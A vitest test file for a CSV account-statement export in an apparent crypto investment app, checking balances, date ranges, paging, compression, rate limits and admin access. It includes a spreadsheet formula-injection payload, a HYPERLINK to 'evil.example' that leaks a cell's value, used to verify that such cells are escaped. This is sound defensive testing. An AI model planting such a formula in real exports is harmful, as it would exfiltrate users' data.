import { gunzipSync } from 'node:zlib';
import { MESSAGES, type Plan } from '@vestora/shared';
import { describe, expect, it } from 'vitest';
import { createTestClock } from '../../../test/clock.ts';
import {
  balanceOf,
  fundUser,
  newestDepositId,
  requestDeposit,
  saveUsableWithdrawalAddress,
  verify,
} from '../../../test/money.ts';
import { bearer, createTestApp, signUpAndLogin, type TestApp, withTestApp } from '../../../test/test-app.ts';
import { csvCell, csvLine } from '../../lib/csv.ts';
import { DAY_MS } from '../../lib/time.ts';
import { payDueReturns } from '../investments/plan-payouts.ts';
import { postTransfers } from '../ledger/ledger.service.ts';
import { findAvailableAccountId, listMovementsPage, sumMovementsBefore } from './statement.repo.ts';
import { exportStatement, STATEMENT_EXPORTS_PER_PERSON } from './statement.service.ts';

const clock = createTestClock(new Date('2026-03-02T09:00:00Z'));
let t: TestApp;
let adminToken: string;
withTestApp((suite) => ({ t, adminToken } = suite), {}, { clock });

const BTC_ADDRESS = 'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq';
const INJECTED_REASON = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your bonus")';

function statement(token: string, query = '') {
  return t.app.inject({ url: `/api/user/statement.csv${query}`, headers: bearer(token) });
}

/** The statement's lines as cells, the BOM and the header checked and taken off. */
function parseStatement(body: string): string[][] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  const lines = body.slice(1).split('\r\n');
  expect(lines.pop()).toBe('');
  expect(lines.shift()).toBe('Date (UTC),Type,Reference,Amount (USD),Balance after (USD),Reason,Transaction');
  return lines.map(splitCsvLine);
}

/** Splits one CSV line, quotes undone, as a spreadsheet reads it. */
function splitCsvLine(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let index = 0; index < line.length; index += 1) {
    const character = line[index];
    if (isQuoted && character === '"' && line[index + 1] === '"') {
      cell += '"';
      index += 1;
    } else if (character === '"') isQuoted = !isQuoted;
    else if (character === ',' && !isQuoted) {
      cells.push(cell);
      cell = '';
    } else cell += character;
  }
  cells.push(cell);
  return cells;
}

const toCents = (decimal: string | undefined) => {
  expect(decimal).toMatch(/^-?\d+\.\d{2}$/);
  return BigInt((decimal ?? '').replace('.', ''));
};

async function withdraw(token: string, amount: number) {
  const response = await t.app.inject({
    method: 'POST',
    url: '/api/user/withdraw',
    headers: bearer(token),
    payload: { amount, method: 'btc', address: BTC_ADDRESS },
  });
  expect(response.statusCode).toBe(201);
  return response.json().data._id as string;
}

/** A verified user with credits, a debit, an approved deposit, a plan with a return, and withdrawals. */
async function userWithEveryMovement() {
  const { token, user } = await signUpAndLogin(t.app);
  await verify(t.app, adminToken, user._id);
  await fundUser(t.app, adminToken, user._id, 500);
  expect((await requestDeposit(t.app, token, '120.55')).statusCode).toBe(200);
  const depositId = await newestDepositId(t.app, adminToken, user._id);
  const approve = await t.app.inject({
    method: 'PUT',
    url: `/api/admin/approveDeposit/${depositId}`,
    headers: bearer(adminToken),
  });
  expect(approve.statusCode).toBe(200);
  const debit = await t.app.inject({
    method: 'PUT',
    url: `/api/admin/creditOrDebit/${user._id}`,
    headers: bearer(adminToken),
    payload: { mode: 'debit', amount: 20.1, reason: INJECTED_REASON },
  });
  expect(debit.statusCode).toBe(200);

  const fund = await t.app.inject({
    method: 'PUT',
    url: '/api/admin/fundReserve',
    headers: bearer(adminToken),
    payload: { amount: 1000, note: 'statement test' },
  });
  expect(fund.statusCode).toBe(200);
  const [plan] = (await t.app.inject({ url: '/api/plans' })).json().data as Plan[];
  const invest = await t.app.inject({
    method: 'POST',
    url: '/api/user/invest',
    headers: bearer(token),
    payload: { planId: plan?._id, amount: 100 },
  });
  expect(invest.statusCode).toBe(201);
  clock.advance(DAY_MS);
  await payDueReturns(t.db, clock);

  await saveUsableWithdrawalAddress(t, clock, token, {
    coin: 'btc',
    address: BTC_ADDRESS,
    password: 'Secret#Pass1',
  });
  const paidId = await withdraw(token, 50);
  const paid = await t.app.inject({
    method: 'PUT',
    url: `/api/admin/approveWithdrawal/${paidId}`,
    headers: bearer(adminToken),
    payload: { txHash: 'a1b2c3d4e5f6' },
  });
  expect(paid.statusCode).toBe(200);
  const declinedId = await withdraw(token, 30);
  const decline = await t.app.inject({
    method: 'PUT',
    url: `/api/admin/declineWithdrawal/${declinedId}`,
    headers: bearer(adminToken),
    payload: { reason: '@SUM(1+1) wrong address' },
  });
  expect(decline.statusCode).toBe(200);
  return { token, user, depositId };
}

describe('GET /api/user/statement.csv', () => {
  it('lists every movement of the balance, oldest first, summing to the balance, each with the exact balance after', async () => {
    const { token, user, depositId } = await userWithEveryMovement();
    const response = await statement(token);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="statement-start-to-${clock.now().toISOString().slice(0, 10)}.csv"`,
    );
    const rows = parseStatement(response.body);
    expect(rows.map(([, type, , amount]) => [type, amount])).toEqual([
      ['Credit', '500.00'],
      ['Deposit', '120.55'],
      ['Debit', '-20.10'],
      ['Plan investment', '-100.00'],
      ['Plan return', '3.60'],
      ['Withdrawal', '-50.00'],
      ['Withdrawal', '-30.00'],
      ['Withdrawal returned', '30.00'],
    ]);
    let runningCents = 0n;
    for (const [at, , , amount, balanceAfter] of rows) {
      expect(at).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
      runningCents += toCents(amount);
      expect(toCents(balanceAfter)).toBe(runningCents);
    }
    const balance = await balanceOf(t.app, token, user._id);
    expect(runningCents).toBe(BigInt(Math.round(balance * 100)));
    expect(rows.at(-1)?.[4]).toBe('454.05');
    expect(rows[1]?.[2]).toBe(depositId);
    expect(rows[0]?.[5]).toBe('test funding');
    // The paid withdrawal carries its payout's transaction; the declined one none.
    expect(rows.filter(([, type]) => type === 'Withdrawal').map((row) => row[6])).toEqual([
      'a1b2c3d4e5f6',
      '',
    ]);
  });

  it('writes a reason that would run as a formula as inert text', async () => {
    const { token } = await userWithEveryMovement();
    const response = await statement(token);
    expect(response.body).toContain(
      `,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for your bonus"")",\r\n`,
    );
    const rows = parseStatement(response.body);
    expect(rows[2]?.[5]).toBe(`'${INJECTED_REASON}`);
    expect(rows.at(-1)?.[5]).toBe("'@SUM(1+1) wrong address");
    // Negative amounts are numbers, not formulas: they stay numbers.
    expect(rows[2]?.[3]).toBe('-20.10');
  });

  it('limits the statement to the days asked, both included', async () => {
    const { token } = await userWithEveryMovement();
    // The movements are stamped by the database's clock, today in real time.
    const realToday = new Date().toISOString().slice(0, 10);
    expect(parseStatement((await statement(token, `?from=${realToday}&to=${realToday}`)).body)).toHaveLength(
      8,
    );
    expect(parseStatement((await statement(token, '?to=2000-01-01')).body)).toEqual([]);
    const future = await statement(token, '?from=2999-01-01&to=2999-12-31');
    expect(future.headers['content-disposition']).toBe(
      'attachment; filename="statement-2999-01-01-to-2999-12-31.csv"',
    );
    expect(parseStatement(future.body)).toEqual([]);
  });

  it('refuses a malformed range with 400 and a message', async () => {
    const { token } = await signUpAndLogin(t.app);
    const cases: [string, string][] = [
      ['?from=2026-02-30', MESSAGES.statementFromInvalid],
      ['?from=02/03/2026', MESSAGES.statementFromInvalid],
      ['?to=yesterday', MESSAGES.statementToInvalid],
      ['?to=2026-13-01', MESSAGES.statementToInvalid],
      ['?from=2026-03-02&to=2026-03-01', MESSAGES.statementRangeReversed],
    ];
    for (const [query, message] of cases) {
      const response = await statement(token, query);
      expect(response.statusCode, query).toBe(400);
      expect(response.json().message, query).toBe(message);
    }
  });

  it('answers a user without movements with the header alone, and a visitor without a session with 401', async () => {
    const { token } = await signUpAndLogin(t.app);
    const response = await statement(token);
    expect(response.statusCode).toBe(200);
    expect(parseStatement(response.body)).toEqual([]);
    expect((await t.app.inject({ url: '/api/user/statement.csv' })).statusCode).toBe(401);
  });

  it('carries the balance exactly across pages of a long history', async () => {
    const { token, user } = await signUpAndLogin(t.app);
    const count = 1234;
    await t.db.transaction((tx) =>
      postTransfers(
        tx,
        Array.from({ length: count }, (_, index) => ({
          from:
            index % 3 === 2
              ? { userId: user._id, kind: 'available' as const }
              : { platform: 'adjustments' as const },
          to:
            index % 3 === 2
              ? { platform: 'adjustments' as const }
              : { userId: user._id, kind: 'available' as const },
          amountCents: BigInt(index + 1),
          kind: index % 3 === 2 ? ('admin_debit' as const) : ('admin_credit' as const),
          reference: { type: 'adjustment' as const, id: crypto.randomUUID() },
          settlementKey: `statement-test:${user._id}:${index}`,
          reason: `movement ${index}`,
        })),
      ),
    );
    const rows = parseStatement((await statement(token)).body);
    expect(rows).toHaveLength(count);
    let runningCents = 0n;
    for (const [, , , amount, balanceAfter] of rows) {
      runningCents += toCents(amount);
      expect(toCents(balanceAfter)).toBe(runningCents);
    }
    expect(runningCents).toBe(BigInt(Math.round((await balanceOf(t.app, token, user._id)) * 100)));
    expect(new Set(rows.map((row) => row[5])).size).toBe(count);
    // A long statement goes out compressed to a client that accepts it, with the same content.
    const compressed = await t.app.inject({
      url: '/api/user/statement.csv',
      headers: { ...bearer(token), 'accept-encoding': 'gzip' },
    });
    expect(compressed.headers['content-encoding']).toBe('gzip');
    expect(parseStatement(gunzipSync(compressed.rawPayload).toString('utf8'))).toEqual(rows);
  });

  it('starts a range with the balance of every movement before it', async () => {
    const { user } = await signUpAndLogin(t.app);
    await fundUser(t.app, adminToken, user._id, 100);
    await fundUser(t.app, adminToken, user._id, 25);
    const {
      rows: [mark],
    } = await t.pool.query<{ now: string }>('select clock_timestamp()::text as now');
    await fundUser(t.app, adminToken, user._id, 7.5);
    const accountId = await findAvailableAccountId(t.db, { userId: user._id });
    if (!accountId || !mark) throw new Error('no account');
    const openingCents = await sumMovementsBefore(t.db, { accountId, before: mark.now });
    expect(openingCents).toBe(12500n);
    const page = await listMovementsPage(t.db, {
      accountId,
      after: null,
      from: mark.now,
      until: 'infinity',
      openingCents,
      limit: 10,
    });
    expect(page.map((row) => [row.delta_cents, row.balance_after_cents])).toEqual([['750', '13250']]);
  });
  it('answers HEAD with the headers alone, and frees its connection', async () => {
    const { token, user } = await signUpAndLogin(t.app);
    await fundUser(t.app, adminToken, user._id, 5);
    for (const encoding of ['identity', 'gzip']) {
      const response = await t.app.inject({
        method: 'HEAD',
        url: '/api/user/statement.csv',
        headers: { ...bearer(token), 'accept-encoding': encoding },
      });
      expect(response.statusCode, encoding).toBe(200);
      expect(response.body, encoding).toBe('');
      await expect.poll(() => t.pool.totalCount - t.pool.idleCount).toBe(0);
    }
  });

  it('lets one person download two statements at once, on every server together, and refuses more with 429', async () => {
    expect(STATEMENT_EXPORTS_PER_PERSON).toBe(2);
    const { token, user } = await signUpAndLogin(t.app);
    const bystander = await signUpAndLogin(t.app);
    await fundUser(t.app, adminToken, user._id, 12);
    // Two downloads whose client has not read them yet: each holds its slot (and its connection).
    const held = await Promise.all(
      [1, 2].map(() => exportStatement({ db: t.db, clock }, { userId: user._id, requestedBy: user._id }, {})),
    );
    const other = await createTestApp({}, { sharedWith: t });
    try {
      const refused = await Promise.all([
        statement(token),
        statement(token),
        statement(token),
        other.app.inject({ url: '/api/user/statement.csv', headers: bearer(token) }),
      ]);
      for (const answer of refused) {
        expect(answer.statusCode).toBe(429);
        expect(answer.json().message).toBe(MESSAGES.statementExportsBusy);
      }
      expect((await statement(bystander.token)).statusCode).toBe(200);

      await held[0]?.content.cancel();
      await expect.poll(async () => (await statement(token)).statusCode).toBe(200);
      const bytes = await new Response(held[1]?.content).arrayBuffer();
      const rows = parseStatement(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes));
      expect(rows).toHaveLength(1);
    } finally {
      await other.close();
    }
  });

  it("gives an administrator anyone's statement, and nobody else", async () => {
    const { token, user } = await signUpAndLogin(t.app);
    await fundUser(t.app, adminToken, user._id, 42);
    const own = await statement(token);
    const asAdmin = await t.app.inject({
      url: `/api/admin/users/${user._id}/statement.csv`,
      headers: bearer(adminToken),
    });
    expect(asAdmin.statusCode).toBe(200);
    expect(asAdmin.body).toBe(own.body);
    const other = await signUpAndLogin(t.app);
    const refused = await t.app.inject({
      url: `/api/admin/users/${user._id}/statement.csv`,
      headers: bearer(other.token),
    });
    expect(refused.statusCode).toBe(403);
    expect(parseStatement((await statement(other.token)).body)).toEqual([]);
    for (const id of [crypto.randomUUID(), 'not-an-id']) {
      const missing = await t.app.inject({
        url: `/api/admin/users/${id}/statement.csv`,
        headers: bearer(adminToken),
      });
      expect(missing.statusCode, id).toBe(404);
      expect(missing.json().message).toBe(MESSAGES.userNotFound);
    }
  });

  it('is described in the OpenAPI document as a CSV answer with its range', async () => {
    const document = (await t.app.inject({ url: '/api/openapi.json' })).json();
    const operation = document.paths['/api/user/statement.csv'].get;
    expect(Object.keys(operation.responses['200'].content)).toEqual(['text/csv']);
    expect(
      operation.parameters.map((parameter: { name: string; in: string }) => [parameter.in, parameter.name]),
    ).toEqual([
      ['query', 'from'],
      ['query', 'to'],
    ]);
  });
});

describe('CSV cells', () => {
  it('escapes a cell that a spreadsheet would run as a formula, and quotes what needs quoting', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('=A1,"x"')).toBe(`"'=A1,""x"""`);
    expect(csvCell('-12.50')).toBe('-12.50');
    expect(csvCell('plain text')).toBe('plain text');
    expect(csvCell('')).toBe('');
    expect(csvLine(['a', 'b,c', '=d'])).toBe(`a,"b,c",'=d\r\n`);
  });
});
